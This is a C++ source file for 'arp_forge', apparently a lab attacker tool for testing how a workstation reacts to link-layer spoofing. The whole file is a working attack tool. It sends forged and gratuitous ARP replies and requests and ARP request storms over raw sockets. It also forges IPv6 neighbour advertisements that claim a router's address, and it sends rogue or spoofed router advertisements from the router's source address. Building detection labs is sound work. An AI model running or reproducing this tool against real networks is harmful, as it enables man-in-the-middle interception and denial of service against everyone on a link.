// SPDX-License-Identifier: MIT
// The lab's attacker: sends forged ARP replies (or, with `request`, forged requests, which create
// an entry where none is) that claim an address for a MAC address nobody answers to, straight
// onto the link through an AF_PACKET socket.
//
//   arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC [COUNT [INTERVAL_MS [request|storm]]]
//
// A storm sends COUNT requests back to back, from 150 addresses from CLAIMED_IP on, each with a
// link-layer address of its own, and prints one line: "storm FRAMES SECONDS".
//
// A reply whose VICTIM_IP is CLAIMED_IP is gratuitous: FAKE_MAC is its target hardware address
// too. Prints one line with the wall-clock time in microseconds for every reply sent.
//
//   arp_forge IFACE na|na-host ROUTER_IPV6 FAKE_MAC [COUNT [INTERVAL_MS]]
//   arp_forge IFACE ra [COUNT [INTERVAL_MS]]
//   arp_forge IFACE ra0 ROUTER_IPV6 FAKE_MAC [COUNT [INTERVAL_MS]]
//
// The IPv6 forms, to every node of the link: an unsolicited neighbour advertisement with the
// override flag that claims the router's address for FAKE_MAC, with the router flag (na) or
// without it and in the router's name (na-host, the best-known attack suite's default: its source
// address is the router's); a router advertisement from the
// attacker's own link-local address that offers it as a default router for 30 minutes; a router
// advertisement in the router's name (its source address) with lifetime 0 and FAKE_MAC as its
// source link-layer address. Each prints the same lines.
#include <arpa/inet.h>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <string>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <thread>

#include <unistd.h>

#ifndef IPV6_FREEBIND
#define IPV6_FREEBIND 78
#endif

namespace {

bool parseMac(const char* text, unsigned char mac[6]) {
    unsigned int b[6];
    if (std::sscanf(text, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != 6) {
        return false;
    }
    for (int i = 0; i < 6; ++i) {
        mac[i] = static_cast<unsigned char>(b[i]);
    }
    return true;
}

// Taken just before the send: the frame may reach the workstation, and be acted on there, before
// the send returns.
long long nowMicros() {
    return std::chrono::duration_cast<std::chrono::microseconds>(
               std::chrono::system_clock::now().time_since_epoch())
        .count();
}

void printSent(long long micros) {
    std::printf("forged %lld\n", micros);
    std::fflush(stdout);
}

// Neighbour discovery over a raw ICMPv6 socket, whose checksum the kernel fills in; its messages
// count only with a hop limit of 255.
int forgeNeighbourDiscovery(int argc, char** argv) {
    const std::string mode = argv[2];
    const bool advertiseRouter = mode == "ra";
    const bool withdraw = mode == "ra0";
    // Sent in the router's name: its address as the source.
    const bool spoofed = withdraw || mode == "na-host";
    const int first = advertiseRouter ? 3 : 5;
    unsigned char message[32] = {};
    std::size_t length = 0;
    in6_addr source{};
    if (advertiseRouter || withdraw) {
        message[0] = 134;
        message[4] = 64; // hop limit
        if (advertiseRouter) {
            message[6] = 0x07; // router lifetime 1800 s
            message[7] = 0x08;
        }
        message[16] = 1; // source link-layer address option, filled in below
        message[17] = 1;
        length = 24;
        if (withdraw && (argc < 5 || ::inet_pton(AF_INET6, argv[3], &source) != 1 ||
                         !parseMac(argv[4], message + 18))) {
            std::fprintf(stderr, "arp_forge: bad address\n");
            return 2;
        }
    } else {
        in6_addr router{};
        if (argc < 5 || ::inet_pton(AF_INET6, argv[3], &router) != 1 ||
            !parseMac(argv[4], message + 26)) {
            std::fprintf(stderr, "arp_forge: bad address\n");
            return 2;
        }
        source = router;
        message[0] = 136;
        message[4] = mode == "na-host" ? 0x20 : 0x80 | 0x20; // (router,) override
        std::memcpy(message + 8, &router, 16);
        message[24] = 2; // target link-layer address option
        message[25] = 1;
        length = 32;
    }
    const int count = argc > first ? std::stoi(argv[first]) : 1;
    const int intervalMs = argc > first + 1 ? std::stoi(argv[first + 1]) : 1000;
    const int fd = ::socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
    if (fd < 0) {
        std::perror("arp_forge: socket");
        return 1;
    }
    ifreq request{};
    std::strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
    if (::ioctl(fd, SIOCGIFHWADDR, &request) != 0) {
        std::perror("arp_forge: interface address");
        return 1;
    }
    if (advertiseRouter) {
        std::memcpy(message + 18, request.ifr_hwaddr.sa_data, 6);
    }
    // In the router's name: its address as the source, which is none of ours (freebind).
    const int on = 1;
    if (spoofed && ::setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &on, sizeof on) != 0) {
        std::perror("arp_forge: freebind");
        return 1;
    }
    const int hops = 255;
    const int index = static_cast<int>(::if_nametoindex(argv[1]));
    ::setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
    ::setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &index, sizeof index);
    sockaddr_in6 to{};
    to.sin6_family = AF_INET6;
    to.sin6_scope_id = static_cast<std::uint32_t>(index);
    ::inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
    for (int i = 0; i < count; ++i) {
        if (i > 0) {
            std::this_thread::sleep_for(std::chrono::milliseconds(intervalMs));
        }
        alignas(cmsghdr) char control[CMSG_SPACE(sizeof(in6_pktinfo))] = {};
        iovec data{message, length};
        msghdr packet{};
        packet.msg_name = &to;
        packet.msg_namelen = sizeof to;
        packet.msg_iov = &data;
        packet.msg_iovlen = 1;
        if (spoofed) {
            packet.msg_control = control;
            packet.msg_controllen = sizeof control;
            cmsghdr* header = CMSG_FIRSTHDR(&packet);
            header->cmsg_level = IPPROTO_IPV6;
            header->cmsg_type = IPV6_PKTINFO;
            header->cmsg_len = CMSG_LEN(sizeof(in6_pktinfo));
            in6_pktinfo info{};
            info.ipi6_addr = source;
            info.ipi6_ifindex = static_cast<unsigned>(index);
            std::memcpy(CMSG_DATA(header), &info, sizeof info);
        }
        const long long sentAt = nowMicros();
        if (::sendmsg(fd, &packet, 0) < 0) {
            std::perror("arp_forge: sendto");
            return 1;
        }
        printSent(sentAt);
    }
    ::close(fd);
    return 0;
}

} // namespace

int main(int argc, char** argv) {
    if (argc >= 3 && (std::string(argv[2]) == "na" || std::string(argv[2]) == "na-host" ||
                      std::string(argv[2]) == "ra" || std::string(argv[2]) == "ra0")) {
        return forgeNeighbourDiscovery(argc, argv);
    }
    if (argc < 6) {
        std::fprintf(stderr, "usage: arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC "
                             "[COUNT [INTERVAL_MS [request|storm]]]\n");
        return 2;
    }
    unsigned char fakeMac[6];
    unsigned char victimMac[6];
    in_addr claimed{};
    in_addr victim{};
    if (!parseMac(argv[3], fakeMac) || !parseMac(argv[5], victimMac) ||
        ::inet_pton(AF_INET, argv[2], &claimed) != 1 ||
        ::inet_pton(AF_INET, argv[4], &victim) != 1) {
        std::fprintf(stderr, "arp_forge: bad address\n");
        return 2;
    }
    const int count = argc > 6 ? std::stoi(argv[6]) : 1;
    const int intervalMs = argc > 7 ? std::stoi(argv[7]) : 1000;
    const bool storm = argc > 8 && std::string(argv[8]) == "storm";
    const bool forgeRequest = storm || (argc > 8 && std::string(argv[8]) == "request");

    const int fd = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
    if (fd < 0) {
        std::perror("arp_forge: socket");
        return 1;
    }
    ifreq request{};
    std::strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
    if (::ioctl(fd, SIOCGIFINDEX, &request) != 0) {
        std::perror("arp_forge: interface");
        return 1;
    }
    const int interfaceIndex = request.ifr_ifindex;
    if (::ioctl(fd, SIOCGIFHWADDR, &request) != 0) {
        std::perror("arp_forge: interface address");
        return 1;
    }
    // The frame leaves from the attacker's own MAC, so the switch never learns where the fake
    // MAC lives and floods every frame sent to it.
    unsigned char ownMac[6];
    std::memcpy(ownMac, request.ifr_hwaddr.sa_data, 6);

    unsigned char frame[42] = {};
    std::memcpy(frame, victimMac, 6);
    std::memcpy(frame + 6, ownMac, 6);
    frame[12] = 0x08;
    frame[13] = 0x06;
    unsigned char* arp = frame + 14;
    arp[1] = 1;    // Ethernet
    arp[2] = 0x08; // IPv4
    arp[4] = 6;
    arp[5] = 4;
    arp[7] = forgeRequest ? 1 : 2;
    std::memcpy(arp + 8, fakeMac, 6);
    std::memcpy(arp + 14, &claimed, 4);
    if (!forgeRequest) { // a request leaves the target's hardware address to be found out
        // A gratuitous reply (the claimed address as its target) names its own hardware address
        // there too, which is what makes a kernel take it within its lock time.
        std::memcpy(arp + 18, claimed.s_addr == victim.s_addr ? fakeMac : victimMac, 6);
    }
    std::memcpy(arp + 24, &victim, 4);

    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = interfaceIndex;
    to.sll_halen = 6;
    std::memcpy(to.sll_addr, victimMac, 6);
    if (storm) {
        const auto start = std::chrono::steady_clock::now();
        const std::uint32_t first = ntohl(claimed.s_addr);
        for (int i = 0; i < count; ++i) {
            const std::uint32_t sender = htonl(first + static_cast<std::uint32_t>(i % 150));
            std::memcpy(arp + 14, &sender, 4);
            arp[11] = static_cast<unsigned char>(i >> 16);
            arp[12] = static_cast<unsigned char>(i >> 8);
            arp[13] = static_cast<unsigned char>(i);
            (void)::sendto(fd, frame, sizeof frame, 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
        }
        const std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
        std::printf("storm %d %.3f\n", count, took.count());
        ::close(fd);
        return 0;
    }
    for (int i = 0; i < count; ++i) {
        if (i > 0) {
            std::this_thread::sleep_for(std::chrono::milliseconds(intervalMs));
        }
        const long long sentAt = nowMicros();
        if (::sendto(fd, frame, sizeof frame, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) < 0) {
            std::perror("arp_forge: sendto");
            return 1;
        }
        printSent(sentAt);
    }
    ::close(fd);
    return 0;
}
